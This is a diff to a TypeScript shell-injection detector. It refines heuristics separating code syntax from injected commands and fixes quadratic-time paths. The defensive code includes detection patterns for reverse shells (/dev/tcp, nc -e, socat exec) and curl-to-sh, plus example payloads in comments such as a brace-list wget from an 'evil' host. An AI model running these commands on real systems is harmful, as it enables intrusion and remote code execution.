@@ -102,8 +102,10 @@ function commandEnds(v: string, i: number): boolean {
  */
 const TYPE_ARGUMENT = String.raw`(?:string|number|boolean|bigint|symbol|object|unknown|any|void|never|[a-z])(?:\[\])?`
 const GENERIC_TYPE = new RegExp(String.raw`^<${TYPE_ARGUMENT}(?:[ \t]{0,2},[ \t]{0,2}${TYPE_ARGUMENT}){0,3}>(?![\w.-])`)
+/** after it, what leaves its `>` without a file: the line's or the value's end, `;` or `)`, or an operator after a blank */
+const GENERIC_END = /^(?:[;)\n\r]|$|[ \t]{1,4}(?:[;)|&\n\r]|$))/
 /** how far either side of a quoted program's name `commandAt` reads it unquoted */
-const QUOTED_REACH = 1024
+const QUOTED_REACH = 400
 function commandAt(v: string, i: number, weak: boolean, listedOnly = false): boolean {
   const entry = i
   // (twenty-first round: and a subshell's parenthesis, `; (id)`, `&& (id)`)
@@ -120,7 +122,7 @@ function commandAt(v: string, i: number, weak: boolean, listedOnly = false): boo
     const close = v.indexOf(quote === 34 ? '"' : "'", i + 1)
     const inner = close > i + 1 && close - i <= 25 ? v.slice(i + 1, close) : ''
     if (inner === '' || !COMMANDS.has(inner) || !quotedCommand(v, entry, close + 1)) return false
-    // (forty-seventh round) judged unquoted within 1,024 characters either side: the whole value copied at each such name cost the square
+    // (forty-seventh round) judged unquoted within 400 characters either side: the whole value copied at each such name cost the square
     // of its length, now that a value's separators are read to its end
     const from = Math.max(0, i - QUOTED_REACH)
     return commandAt(v.slice(from, i) + inner + v.slice(close + 1, close + 1 + QUOTED_REACH), i - from, weak, listedOnly)
@@ -150,7 +152,12 @@ function commandAt(v: string, i: number, weak: boolean, listedOnly = false): boo
   const word = v.slice(i, j)
   // (forty-seventh round) a generic type of TypeScript's, Java's or C#'s named as a program and given a primitive type or a type's parameter
   // (`string[] | Set<string>`, `Set<T>`): to a shell, input from a file of that name, nothing else
-  if (v.charCodeAt(j) === 60 && GENERIC_TYPE.test(v.slice(j, j + 80))) return false
+  // (review: only where the shells refuse the line at the `>`, which lacks its file — `rm<t> o -rf victim` deletes `victim` once a file
+  // `t` exists, `id<t>(echo x)` runs a process substitution — or for `set`, which sets its arguments and runs nothing, `Set<string>, y`)
+  if (v.charCodeAt(j) === 60) {
+    const generic = GENERIC_TYPE.exec(v.slice(j, j + 80))
+    if (generic !== null && (word === 'set' || GENERIC_END.test(v.slice(j + generic[0].length, j + generic[0].length + 8)))) return false
+  }
   let k = j
   while (k < v.length && isBlank(v.charCodeAt(k))) k++
   // (forty-fifth round) assignments of the command's environment before it (`; A=1 id`, `&& LANG=C curl …`): the command after them
@@ -210,7 +217,7 @@ function commandAt(v: string, i: number, weak: boolean, listedOnly = false): boo
   // an unknown program: options or paths after it, from a strong separator only
   // (thirty-eighth round: not PowerShell's cmdlets that order, filter, pick or lay out the objects piped to them, given names and
   // words only, `"$path\*x*" | Sort-Object -Property LastWriteTime | Select-Object -Last 1`: a script block or a subexpression is code)
-  return !weak && !listedOnly && hasArgument && /^[a-z][\w.-]*$/.test(word) && (v.charCodeAt(k) === 45 || v.charCodeAt(k) === 47) && !(OBJECT_CMDLET.test(word) && CMDLET_WORDS.test(v.slice(k, k + 202)) && cmdletLine(v, entry)) && !(COQ_TACTICS.has(word) && COQ_PROOF.test(v))
+  return !weak && !listedOnly && hasArgument && /^[a-z][\w.-]*$/.test(word) && (v.charCodeAt(k) === 45 || v.charCodeAt(k) === 47) && !(OBJECT_CMDLET.test(word) && CMDLET_WORDS.test(v.slice(k, k + 202)) && cmdletLine(v, entry)) && !(COQ_TACTICS.has(word) && coqProof(v))
 }
 /**
  * (thirty-eighth round) A Coq proof's tactics, which SSReflect chains with `;` and gives views and rewrite rules (`case: bb1; rewrite /=
@@ -229,8 +236,10 @@ const COQ_PROOF = /(?:^|\n)[ \t]{0,8}proof\.(?:\s|$)/
 function cmdletLine(v: string, entry: number): boolean {
   const pipe = v.lastIndexOf('|', entry - 1)
   if (pipe < 0) return false
-  // (second review: a lone CR ends PowerShell's line too)
-  const start = Math.max(v.lastIndexOf('\n', pipe), v.lastIndexOf('\r', pipe)) + 1
+  // (second review: a lone CR ends PowerShell's line too; forty-seventh round's review: looked for within the 300 characters the line
+  // may have, not back to the value's start)
+  let start = pipe
+  while (start > 0 && pipe - start <= 300 && v.charCodeAt(start - 1) !== 10 && v.charCodeAt(start - 1) !== 13) start--
   return pipe - start <= 300 && CMDLET_LINE.test(v.slice(start, pipe))
 }
 // (fifth review: a cmdlet that reads, `Get-ChildItem`, not one that fetches, starts or configures — `Invoke-WebRequest http://… -OutFile
@@ -290,14 +299,38 @@ function assignedProgram(v: string, name: string, before: number): boolean {
 }
 
 /**
+ * (forty-seventh round) A reading of a whole value, kept for the last two values read: a value and a window copied out of it (a quoted
+ * program's name judged unquoted) take turns, and one slot would read the whole value again at each turn (review: 25 s on 64 KiB).
+ */
+function perValue<T>(read: (v: string) => T): (v: string) => T {
+  let last: string | undefined
+  let lastRead: T | undefined
+  let before: string | undefined
+  let beforeRead: T | undefined
+  return (v) => {
+    if (v === last) return lastRead!
+    if (v === before) {
+      const r = beforeRead!
+      before = last
+      beforeRead = lastRead
+      last = v
+      lastRead = r
+      return r
+    }
+    before = last
+    beforeRead = lastRead
+    last = v
+    lastRead = read(v)
+    return lastRead
+  }
+}
+
+/**
  * (forty-seventh round) The names a value assigns (`name=`, the name not glued to another name's character) and where each is first
  * given a listed program's name (`x=cat`, `a='whoami'`): read once per value, not once per separator, now that a value's separators are
- * read to its end (looking back for `x=` at each `$x` cost the square of the value's length). The last value's, kept for the next call.
+ * read to its end (looking back for `x=` at each `$x` cost the square of the value's length).
  */
-let indexed: string | undefined
-let indexedAssignments = { names: new Set<string>(), programs: new Map<string, number>() }
-function assignments(v: string): { names: Set<string>; programs: Map<string, number> } {
-  if (v === indexed) return indexedAssignments
+const assignments = perValue((v: string): { names: Set<string>; programs: Map<string, number> } => {
   const names = new Set<string>()
   const programs = new Map<string, number>()
   for (let eq = v.indexOf('='); eq !== -1; eq = v.indexOf('=', eq + 1)) {
@@ -313,10 +346,10 @@ function assignments(v: string): { names: Set<string>; programs: Map<string, num
     while (e < v.length && e - k <= 24 && isWordChar(v.charCodeAt(e))) e++
     if (e > k && !programs.has(name) && COMMANDS.has(v.slice(k, e))) programs.set(name, at)
   }
-  indexed = v
-  indexedAssignments = { names, programs }
-  return indexedAssignments
-}
+  return { names, programs }
+})
+/** (forty-seventh round's review) whether a value holds a Coq proof, read once per value (each tactic's look read the whole value: 2.3 s) */
+const coqProof = perValue((v: string) => COQ_PROOF.test(v))
 
 /** (nineteenth round) A brace list where a command starts, its first word a program: bash runs `{wget,http://evil/x.sh}`, `;{ls,}`. */
 export function braceProgram(v: string): boolean {
@@ -452,7 +485,8 @@ const CALL_REACH = 400
 const outsideCall = (c: number) => c === 10 || c === 13 || c === 39 || c === 34 || c === 96 || c === 92 || c === 36 || c === 123 || c === 125 || c === 91 || c === 93
 
 /**
- * (forty-fifth round) Whether the `&` at `i` stands among a call's arguments on its line (`f(a, &b)`, `fn(const x& y)`): bash and dash
+ * (forty-fifth round) Whether the `&` at `i` (forty-seventh round: or the `|`) stands among a call's arguments on its line (`f(a, &b)`,
+ * `fn(const x& y)`, `f(root: Document | Node)`): bash and dash
  * refuse `name(` with anything but `)` after it, and zsh, whose word ends at the `&`, the stray `)` after it, so the line runs nothing.
  * Only where, after the five reviews:
  * - an unclosed `(` before the `&` on its line is glued to a name that is no shell word (`if(`, `while(` open a subshell), with no
@@ -462,7 +496,7 @@ const outsideCall = (c: number) => c === 10 || c === 13 || c === 39 || c === 34 
  * - no parenthesis that may open a group, nor `alias` or `eval`, stands before the call in the value (`subshellBefore`).
  */
 function insideCall(v: string, i: number): boolean {
-  const after = v.charCodeAt(i + 1) === 38 ? i + 2 : i + 1
+  const after = v.charCodeAt(i + 1) === v.charCodeAt(i) ? i + 2 : i + 1
   let closed = false
   for (let k = after, stop = Math.min(v.length, after + CALL_REACH); k < stop; k++) {
     const c = v.charCodeAt(k)
@@ -480,7 +514,10 @@ function insideCall(v: string, i: number): boolean {
   while (w < v.length && isBlank(v.charCodeAt(w))) w++
   let e = w
   while (e < v.length && isWordChar(v.charCodeAt(e))) e++
-  if (CMD_PROGRAMS.has(v.slice(w, e))) return false
+  const word = v.slice(w, e)
+  // (forty-seventh round: nor, after a pipe, one PowerShell runs on what is piped to it, or an alias of its cmdlets, `f(a | iex)`,
+  // `f(a | gc)`: PowerShell runs a parenthesized pipeline given as an argument)
+  if (CMD_PROGRAMS.has(word) || (v.charCodeAt(i) === 124 && (POWERSHELL_RUNNERS.has(word) || POWERSHELL_ALIASES.has(word)))) return false
   let depth = 0
   for (let k = i - 1, stop = Math.max(0, i - CALL_REACH); k >= stop; k--) {
     const c = v.charCodeAt(k)
@@ -960,6 +997,10 @@ function injectionAt(v: string, fenced: boolean, nested = false): number {
   let inkFrom = -1
   let inkTo = -1
   let inked = 0
+  // whether the value, trimmed, ends on `)` (-1: not looked at yet; review: trimming it at each `'(` cost the square of its length)
+  let closesOnParen = -1
+  // how many Kusto stages were looked for on the line read (`rowTo` its end; review: each look reads up to 2,000 characters of it)
+  let stageLooks = 0
   const n = v.length
   for (let i = 0; i < n && seen < MAX_SEPARATORS; i++) {
     const c = v.charCodeAt(i)
@@ -980,6 +1021,7 @@ function injectionAt(v: string, fenced: boolean, nested = false): number {
       case 124: // | ||
         // (forty-sixth round) a table's row (Markdown's `| ID | Name |` over `|----|----|`, in a notebook, a docstring, a page): no pipe
         if (i >= rowTo) {
+          stageLooks = 0
           rowTo = lineEnd(v, i)
           if (aliasAt === -2) aliasAt = v.search(ALIAS_OR_EXPANSION)
           if (cased === -1) cased = CASE_CLOSED.test(v) ? 1 : 0
@@ -1006,8 +1048,16 @@ function injectionAt(v: string, fenced: boolean, nested = false): number {
         // (forty-fourth round) a stage of a Kusto query (`⏎| where Node == '{node}'`, `| top 5 by Count desc`): no pipe (the pipe
         // alone, as a variant's; the rest of its line is read as any other)
         // (third review: counted as a separator, so that a line of thousands of stages is read 32 of them at most)
-        if (v.charCodeAt(i + 1) !== 124 && kustoStage(v, i + 1)) {
+        // (forty-seventh round's review: 64 looks a line at most, so that a line of thousands of stages costs no 2,000 characters each)
+        if (v.charCodeAt(i + 1) !== 124 && stageLooks++ < 64 && kustoStage(v, i + 1)) {
           seen++
+          break
+        }
+        // (forty-seventh round) a union's or an expression's pipe among a call's arguments (TypeScript's `f(root: Document | Node)`, `f(a ||
+        // env)`): a line the shells refuse, as a `&` there (`insideCall`; zsh reads `f(a | b)` as a glob's alternatives, which match no file)
+        if (insideCall(v, i)) {
+          seen++
+          if (v.charCodeAt(i + 1) === 124) i++
           break
         }
         // (twenty-fourth round) a closure of no parameters handed to a call, Rust's `.or_else(|| req.uri.host())`: no `||`
@@ -1111,6 +1161,15 @@ function injectionAt(v: string, fenced: boolean, nested = false): number {
           i = close
           break
         }
+        // (forty-seventh round) or in parentheses, a template literal's `(${text})` (typescript-eslint's, ESLint's): to a shell a subshell
+        // running the program a variable names, which the value does not set (`x=id; \`(${x})\`` does)
+        if (close !== -1 && close - i <= 56) {
+          const m = PARENTHESIZED_EXPANSION.exec(v.slice(i + 1, close))
+          if (m !== null && !assignments(v).names.has(m[1]!)) {
+            i = close
+            break
+          }
+        }
         // (twenty-third round: or joined to another by `.`, PHP's and Perl's concatenation of two commands' output, `` `echo a`.`echo $((1+2))` ``)
         // (a command line with its argument, not MySQL's name qualified, `` `users`.`id` ``: `users` and `id` are programs too)
         const blank = close !== -1 && spanHasBlank(v, i, close)
@@ -1132,7 +1191,7 @@ function injectionAt(v: string, fenced: boolean, nested = false): number {
         // (twenty-third round) a subshell right after a quote, closing the value (`';"…('(sh -i -c "id")`, a fuzzer's polyglot): the quote ends
         // the literal the value is spliced into, the parenthesis runs a command line
         // (not inside such a subshell's own line: every `'(` there would judge the rest again, each of those its rest — exponential)
-        if (!nested && i > 0 && (v.charCodeAt(i - 1) === 39 || v.charCodeAt(i - 1) === 34) && v.trimEnd().endsWith(')') && subshellCommand(v, i + 1, fenced)) return i
+        if (!nested && i > 0 && (v.charCodeAt(i - 1) === 39 || v.charCodeAt(i - 1) === 34) && (closesOnParen === -1 ? (closesOnParen = v.trimEnd().endsWith(')') ? 1 : 0) : closesOnParen) === 1 && subshellCommand(v, i + 1, fenced)) return i
         break
       case 60: // <( command ) and >( command ): bash's and zsh's process substitution; =( command ): zsh's
       case 62:
@@ -1476,6 +1535,8 @@ const FIRST_VARIANT_LINE = new RegExp(String.raw`^[ \t]{1,40}=${CONSTRUCTOR}$`)
 /** the type's declaration ending in `=` (OCaml's and F#'s `type encoding =`, `type 'a t = 'a M.t =`) */
 const TYPE_HEAD = /^[ \t]{0,40}(?:and|type)[ \t]{1,4}[\w.' ]{1,80}=(?:[ \t]{0,4}[\w.' ]{1,80}=)?[ \t]{0,4}$/
 /** (second review) PowerShell's aliases that run what they are given, beside the programs COMMANDS lists */
+/** (forty-seventh round) aliases PowerShell gives its cmdlets, which a pipe among a call's arguments may run (`insideCall`) */
+const POWERSHELL_ALIASES = new Set(['ls', 'cat', 'gc', 'gci', 'rm', 'rmdir', 'cp', 'mv', 'ps', 'kill', 'sleep', 'wget', 'tee', 'sls', 'gal', 'gcm', 'gps', 'spps', 'ni', 'sc', 'ac', 'diff', 'man', 'pwd', 'cd', 'sl', 'cls', 'history', 'r'])
 const POWERSHELL_RUNNERS = new Set(['iex', 'icm', 'saps', 'sajb', 'start', 'ii', 'iwr', 'irm', 'wsl', 'pwsh', 'powershell', 'cmd', 'mshta', 'wscript', 'cscript', 'rundll32', 'regsvr32', 'msiexec', 'certutil', 'bitsadmin'])
 /** Haskell's and Elm's declaration, whose first variant follows on the next line after `=` (`data Shape`, `type Msg`) */
 const DATA_HEAD = /^[ \t]{0,40}(?:data|newtype|type)[ \t]{1,4}[\w' ]{1,80}$/
@@ -1549,6 +1610,8 @@ function characterReference(v: string, i: number): boolean {
 const NAMED_ENTITIES = new Set(['copy', 'reg'])
 
 /** a template literal's one value, `${name}`, `${obj.field}` (not IFS, nor a variable naming a shell, `${SHELL}`, `${BASH}`) */
+/** (forty-seventh round) one expansion in parentheses, blanks around: a template literal's `(${text})`, ` (${bailedOut})` */
+const PARENTHESIZED_EXPANSION = /^[ \t]{0,4}\(\$\{(?!(?:ifs|shell|bash|sh|zsh|comspec|path|0)\b)([a-z_]\w{0,40})(?:\.[\w.]{0,40})?\}\)[ \t]{0,4}$/i
 const LONE_EXPANSION = /^\$\{(?!(?:ifs|shell|bash|sh|zsh|comspec|path|0)\b)[a-z_][\w.]{0,40}\}$/i
 /** `$(date +FORMAT)`: the format's directives, separators and letters only, blanks only quoted (no option after it: `date -f FILE` reads a file) */
 const DATE_STAMP = /^\$\(date[ \t]{1,4}(?:'\+[%\w:.,/ -]{1,40}'|"\+[%\w:.,/ -]{1,40}"|\+[%\w:.,/-]{1,40})[ \t]{0,4}\)/
@@ -1624,9 +1687,11 @@ function afterSeparator(v: string, i: number): boolean {
 }
 function substitutedProgram(v: string, i: number): boolean {
   let j = i
-  while (j < v.length && isWordChar(v.charCodeAt(j))) j++
-  const close = v.indexOf(')', j)
-  return j > i && COMMANDS.has(v.slice(i, j)) && close !== -1 && close - i <= 200
+  while (j < v.length && j - i <= 24 && isWordChar(v.charCodeAt(j))) j++
+  if (j === i || !COMMANDS.has(v.slice(i, j))) return false
+  // (forty-seventh round's review: looked for within its 200 characters, not to the value's end)
+  for (let k = j, last = Math.min(v.length, i + 201); k < last; k++) if (v.charCodeAt(k) === 41) return true
+  return false
 }
 
 /** A value that is itself a command line (`mkdir -p /tmp/x && echo done`): a listed program first. */
@@ -1780,4 +1845,4 @@ const PROGRAM_LINE = /^[ \t]{0,40}(?:\[\[[ \t][^\n]{0,280}[ \t]\]\][ \t]{0,4}(?:
 // (seventeenth round) a timing oracle: a test whose two branches only sleep, for different times (`then sleep 0; else sleep 5`)
 export const PROGRAM_ATTACK = /\bthen[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}[ \t]{0,4}[;\n][ \t]{0,8}else[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}\b|\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)[ \t][^\n]{0,100}?[ \t]-[a-z]{0,3}[ec]\b|\bmkfifo\b[^\n]{0,100}?\b(?:nc|ncat|netcat|telnet)\b|\bsocat\b[^\n]{0,100}?\bexec:|\b(?:curl|wget|fetch)\b[^\n|]{0,300}\|[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:ba|z|da|k|c|tc|fi)?sh\b/
 /** The shell judge's patterns, for the ReDoS checks. */
-export const SHELL_PATTERNS: readonly RegExp[] = [GENERIC_TYPE, ENV_ASSIGNMENT, ALIAS_OR_EXPANSION, CASE_CLOSED, REDIRECTED, LEADING_BREAK, LINE_BREAKS, REFERENCE, ENV_PREFIX, UNKNOWN_PROGRAM_ARGUMENTS, IFS_ASSIGN, FIND_EXEC, PYTHON_IMPORT, OUTPUT_REDIRECTED, DOWNLOAD_URL, URL_THEN_OPTION, ANSI_C_WORD, LEADING_SUBSHELLS, VERSION_ONLY, SHORT_TOKEN, TRAILING_COMMENT, GLUED_INPUT, ...Object.values(RUNS_NEXT), BRACE_PROGRAM, IFS_BLANK, IFS_BLANKS, VERSION_IN_SENTENCE, CHOICES, IN_WORD_EXPANSION, IN_WORD_EXPANSIONS, BLANK_RUN, HIDDEN_FILE, WORD_BREAKS, HOST_NAME, APPENDED, COMMENTED, ARGUMENT_BREAK, PLAIN_WORD, SHELL_SIGN, NUMBER_ARGUMENT, ECHO_TO_FILE, SPLICED, APPENDED_SUBSTITUTION, SENTENCE, TRAILING_SEPARATOR, ONLY_OPTIONS, CD_CHAIN, ACCESSOR, NO_OPS, QUOTE_SPLIT, SEPARATOR, GLOB_PATH, RELATIVE_GLOB_PATH, GLOB_CHAR, STAR_SEGMENT, CMD_VARIABLE, PROGRAM_PATH, BLOCK_PARAMETERS, BATCH, BATCH_CODE, MAIL_COMMAND, PROGRAM_LINE, PROGRAM_CONTROL, PROGRAM_ATTACK, SHEBANG, INDENTED, CLOSING, MARKER, EMPTY_ECHO, HOST_ARGUMENT, TYPOGRAPHIC_OPTION, ESCAPE_INTRODUCERS, PLUS_BLANK, PLUSES, BRACE_LIST, SHELL_TOKEN, READS_SYSTEM, DATE_STAMP, LONE_EXPANSION, OBJECT_CMDLET, CMDLET_WORDS, ABBREVIATION_REST, CMDLET_LINE, COQ_PROOF, IFS_GLUED_PROGRAM, VARIANT_LINE, FIRST_VARIANT_LINE, TYPE_HEAD, DATA_HEAD, VARIANT_COMMENT, TEST_BRACKETS, FOR_WORDS, LOOP_END, LOOP_WORDS, NUMBER_ASSIGNED, KUSTO_STAGE, PARENTHESIZED_PROGRAM, ORDER_STAGE, ORDER_CLAUSE, STATEMENT_END, STAGE_CONTINUED, WRITTEN_RETURN, JOIN_SIDE, LINE_LEAD, ASSIGNMENT_HEAD, FUNCTION_HEAD, OPTION_OR_PATH, QUERY_PUNCTUATION, QUOTED_ITEM, QUERY_LINE]
+export const SHELL_PATTERNS: readonly RegExp[] = [GENERIC_TYPE, GENERIC_END, PARENTHESIZED_EXPANSION, ENV_ASSIGNMENT, ALIAS_OR_EXPANSION, CASE_CLOSED, REDIRECTED, LEADING_BREAK, LINE_BREAKS, REFERENCE, ENV_PREFIX, UNKNOWN_PROGRAM_ARGUMENTS, IFS_ASSIGN, FIND_EXEC, PYTHON_IMPORT, OUTPUT_REDIRECTED, DOWNLOAD_URL, URL_THEN_OPTION, ANSI_C_WORD, LEADING_SUBSHELLS, VERSION_ONLY, SHORT_TOKEN, TRAILING_COMMENT, GLUED_INPUT, ...Object.values(RUNS_NEXT), BRACE_PROGRAM, IFS_BLANK, IFS_BLANKS, VERSION_IN_SENTENCE, CHOICES, IN_WORD_EXPANSION, IN_WORD_EXPANSIONS, BLANK_RUN, HIDDEN_FILE, WORD_BREAKS, HOST_NAME, APPENDED, COMMENTED, ARGUMENT_BREAK, PLAIN_WORD, SHELL_SIGN, NUMBER_ARGUMENT, ECHO_TO_FILE, SPLICED, APPENDED_SUBSTITUTION, SENTENCE, TRAILING_SEPARATOR, ONLY_OPTIONS, CD_CHAIN, ACCESSOR, NO_OPS, QUOTE_SPLIT, SEPARATOR, GLOB_PATH, RELATIVE_GLOB_PATH, GLOB_CHAR, STAR_SEGMENT, CMD_VARIABLE, PROGRAM_PATH, BLOCK_PARAMETERS, BATCH, BATCH_CODE, MAIL_COMMAND, PROGRAM_LINE, PROGRAM_CONTROL, PROGRAM_ATTACK, SHEBANG, INDENTED, CLOSING, MARKER, EMPTY_ECHO, HOST_ARGUMENT, TYPOGRAPHIC_OPTION, ESCAPE_INTRODUCERS, PLUS_BLANK, PLUSES, BRACE_LIST, SHELL_TOKEN, READS_SYSTEM, DATE_STAMP, LONE_EXPANSION, OBJECT_CMDLET, CMDLET_WORDS, ABBREVIATION_REST, CMDLET_LINE, COQ_PROOF, IFS_GLUED_PROGRAM, VARIANT_LINE, FIRST_VARIANT_LINE, TYPE_HEAD, DATA_HEAD, VARIANT_COMMENT, TEST_BRACKETS, FOR_WORDS, LOOP_END, LOOP_WORDS, NUMBER_ASSIGNED, KUSTO_STAGE, PARENTHESIZED_PROGRAM, ORDER_STAGE, ORDER_CLAUSE, STATEMENT_END, STAGE_CONTINUED, WRITTEN_RETURN, JOIN_SIDE, LINE_LEAD, ASSIGNMENT_HEAD, FUNCTION_HEAD, OPTION_OR_PATH, QUERY_PUNCTUATION, QUOTED_ITEM, QUERY_LINE]
